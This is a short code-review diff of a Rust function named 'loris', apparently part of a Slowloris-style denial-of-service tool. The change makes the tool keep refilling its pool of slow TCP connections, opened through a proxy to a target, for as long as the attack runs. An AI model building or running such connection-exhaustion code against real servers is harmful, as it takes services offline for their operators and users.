@@ -51,7 +51,7 @@ fn loris(attack: &Attack, oldest: &mut Duration) -> Fate {
     let mut fate = Fate::default();
     let mut crowd: Vec<Slow> = Vec::new();
     while attack.goes_on() {
-        for _ in 0..CROWD - crowd.len() {
+        while crowd.len() < CROWD && attack.goes_on() {
             match tcp(attack.proxy, attack.address()) {
                 Ok(socket) => {
                     socket.set_nonblocking(true).expect("a socket's mode can be set");
